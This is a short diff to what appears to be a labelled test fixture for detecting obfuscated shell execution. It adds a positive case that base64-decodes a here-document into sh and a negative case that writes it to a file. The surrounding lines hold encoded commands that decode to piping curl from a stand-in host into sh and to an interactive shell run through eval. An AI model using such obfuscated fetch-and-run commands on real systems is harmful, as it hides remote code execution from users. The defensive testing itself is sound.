@@ -47,3 +47,11 @@ echo a# $(echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | sh)
 echo a # $(echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | sh)
 #@ pos rot13 through tr into eval
 eval "$(echo 'vq; fu -v' | tr 'A-Za-z' 'N-ZA-Mn-za-m')"
+#@ pos base64 -d of a here-document piped into sh
+base64 -d <<'B' | sh
+aWQK
+B
+#@ neg base64 -d of a here-document into a file
+base64 -d <<'B' > out.bin
+aWQK
+B
